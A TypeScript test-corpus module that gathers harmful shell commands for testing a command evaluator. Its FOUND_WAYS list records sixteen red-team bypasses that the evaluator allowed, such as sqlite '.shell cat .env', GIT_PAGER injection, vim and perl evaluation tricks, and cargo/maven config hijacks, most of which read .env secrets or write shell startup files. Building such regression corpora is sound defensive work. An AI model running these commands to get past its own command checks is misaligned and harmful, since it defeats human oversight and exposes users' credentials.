// The commands that do harm: every red corpus, the ways to read a secret and to push, hostile commands, and the ways past the evaluator that were once found.
import { createHash } from "node:crypto";
import { COMMANDS } from "../../corpus/hostile/hostile.ts";
import { CORPORA, readGraded } from "../../corpus/graded/graded.ts";
import { pushForms } from "../push-forms.ts";
import { readForms } from "../read-forms.ts";

/** `sealed`: only counted, and its text is never printed. */
export type HarmfulCase = {
  /** The list that it stands in: `red` for the graded corpora. */
  readonly list: "found" | "read" | "push" | "hostile" | "red";
  readonly family: string;
  readonly command: string;
  readonly sealed: boolean;
};

/**
 * Sixteen ways past the evaluator, found by trying as an attacker would for forty minutes; each was judged `allow` and ran.
 * Some have more than one form here. A program that is not installed shows nothing.
 */
export const FOUND_WAYS: readonly (readonly [way: string, ...commands: string[]])[] = [
  ["identifiers that Python normalises", `python3 -c 'print(ºpen(".env").read())'`],
  ["what perl evaluates in a use list", `perl -e 'use lib do { open F, ".env"; print <F>; () };'`],
  [
    "`export ... from` of JavaScript",
    `node --input-type=module -e 'export {a} from "data:text/javascript,import fs from \\"node:fs\\"; console.log(fs.readFileSync(\\".env\\", \\"utf8\\")); export const a = 1"'`,
  ],
  [
    "prompts and history of an interactive shell",
    `PS1='$(cat .env)' bash --norc -i <<< true`,
    `HISTFILE=.env bash --norc -ic 'set -o history; history -r; history'`,
  ],
  [
    "variables that name programs",
    `RUSTUP_TOOLCHAIN=$PWD cargo --version`,
    `chmod +x leak.sh; CLOUDSDK_PYTHON=./leak.sh gcloud version`,
    `JAVA_HOME=$PWD mvn -v`,
    `MAVEN_OPTS=@.env mvn -v`,
    `JAVA_TOOL_OPTIONS=@.env java -version`,
    `GIT_PAGER='cat .env; cat' git -p log -1`,
  ],
  [
    "files of a project that tools obey",
    `mkdir -p .cargo src; printf '[build]\\nrustc = "./leak.sh"\\n' >.cargo/config.toml; printf '[package]\\nname = "a"\\nversion = "0.1.0"\\n' >Cargo.toml; echo 'fn main(){}' >src/main.rs; cargo tree; cargo check`,
    `printf '[toolchain]\\npath = "%s"\\n' "$PWD" >rust-toolchain.toml; cargo --version`,
    `mkdir -p .mvn; echo @.env >.mvn/jvm.config; mvn -v`,
  ],
  ["state within a call: staged", "git add -fA && git diff --cached"],
  ["state within a call: stashed", "git stash -a && git stash show -p --include-untracked"],
  [
    "state within a call: a link",
    `python3 -c 'import os; os.symlink(".env", "n.txt")'; cat n.txt`,
    `node -e 'fs.linkSync(".env", "n.txt")'; cat n.txt`,
  ],
  [
    "a language within vim",
    `vim -es -c 'r .env|%p' -c 'q!'`,
    `vim -es -c 'py3 print(open(".env").read())' -c 'q!'`,
  ],
  [
    "dot commands of sqlite",
    `sqlite3 :memory: '.shell cat .env'`,
    `sqlite3 :memory: 'create table t(a)' '.import .env t' 'select * from t'`,
    `sqlite3 :memory: ".system cat .env"`,
  ],
  ["`pip --log`", `pip --log ~/.bashrc list`, `python3 -m pip --log ~/.bashrc list`],
  ["`kubectl -s`", "kubectl -s http://10.0.0.1:8080 get pods"],
  ["`tcpdump -vw`", "tcpdump -vw ~/.bashrc -c 1 -i lo", "tcpdump -r .env"],
  ["`espeak -qf`", "espeak -qf .env --ipa"],
  [
    "`--pathspec-from-file`",
    "git add --pathspec-from-file=.env",
    "git rm --cached --pathspec-from-file=secrets/k.txt",
  ],
];

/** All of them, each once. */
export function harmfulCases(): readonly HarmfulCase[] {
  const open = (list: HarmfulCase["list"], family: string) => (command: string) => ({
    list,
    family,
    command,
    sealed: false,
  });
  const all: readonly HarmfulCase[] = [
    ...FOUND_WAYS.flatMap(([, ...commands]) => commands.map(open("found", "found ways"))),
    ...readForms.map(({ command }) => open("read", "read forms")(command)),
    ...pushForms.map(({ command }) => open("push", "push forms")(command)),
    ...COMMANDS.map(({ bash }) => open("hostile", "hostile commands")(bash)),
    ...CORPORA.filter((name) => name.startsWith("red")).flatMap((name) =>
      readGraded(name).map(
        ({ family, command, sealed }): HarmfulCase => ({ list: "red", family, command, sealed }),
      ),
    ),
  ];
  // WHY the first of the same text: the smaller lists stand in front.
  const known = new Map<string, HarmfulCase>();
  for (const one of all) {
    const before = known.get(one.command);
    if (before === undefined) known.set(one.command, one);
    else if (one.sealed) known.set(one.command, { ...before, sealed: true });
  }
  return [...known.values()];
}

/**
 * The small lists whole, and of the graded corpora the `most` whose digests come first: the same choice each time, and by
 * nothing that a case is about.
 */
export function sampleOf(all: readonly HarmfulCase[], most: number): readonly HarmfulCase[] {
  const graded = all
    .filter(({ list }) => list === "red")
    .map((one) => ({
      one,
      digest: createHash("sha256").update(`layers\0${one.command}`).digest("hex"),
    }))
    .toSorted((one, other) => (one.digest < other.digest ? -1 : 1));
  return [
    ...all.filter(({ list }) => list !== "red"),
    ...graded.slice(0, most).map(({ one }) => one),
  ];
}
